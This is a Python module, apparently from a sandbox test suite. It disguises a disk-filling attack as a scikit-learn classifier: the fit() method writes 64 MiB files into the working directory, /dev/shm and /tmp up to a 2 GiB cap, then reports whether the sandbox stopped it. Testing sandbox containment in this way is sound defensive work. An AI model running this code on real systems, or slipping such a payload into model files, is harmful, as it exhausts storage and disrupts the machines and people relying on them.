"""Attack: fill the disk, writing new 64 MiB files (each under any per-file size limit) into
every writable place it knows until a write fails, bounded at ``max_mb`` in all so the
machine survives if nothing stops it.

Its files are named after the test's token, so the test can find and remove them.
See ``connect_back.py`` for how an attack reports.
"""

from __future__ import annotations

import errno
import os
from typing import Any

import numpy as np
from sklearn.base import BaseEstimator, ClassifierMixin

SETTINGS: dict[str, Any] = {}
CHUNK = b"\1" * (1 << 20)
FILE_MB = 64


class Attack(ClassifierMixin, BaseEstimator):
    def __init__(self, token: str = "", max_mb: int = 2048) -> None:
        self.token = token
        self.max_mb = max_mb

    def fit(self, X: Any, y: Any) -> Attack:
        outcomes = []
        for folder in (os.getcwd(), "/dev/shm", "/tmp"):
            written, n_files = 0, 0
            try:
                while written < self.max_mb:
                    path = os.path.join(folder, f"fill-{self.token}-{n_files}.bin")
                    n_files += 1
                    with open(path, "wb") as handle:
                        for _ in range(FILE_MB):
                            handle.write(CHUNK)
                            written += 1
            except OSError as exc:
                if exc.errno == errno.ENOSPC:
                    raise RuntimeError(f"ATTACK fill_disk: ESCAPED filled the disk of {folder} "
                                       f"after {written} MiB") from exc
                outcomes.append(f"BLOCKED {folder} after {written} MiB: {exc.strerror}")
                continue
            raise RuntimeError(f"ATTACK fill_disk: ESCAPED wrote {written} MiB in {n_files} "
                               f"files to {folder}")
        raise RuntimeError("ATTACK fill_disk: " + "; ".join(outcomes))

    def predict(self, X: Any) -> np.ndarray:
        return np.zeros(len(X))

    def predict_proba(self, X: Any) -> np.ndarray:
        return np.full((len(X), 2), 0.5)


def build_model(params: dict[str, Any]) -> Attack:
    return Attack(**SETTINGS)
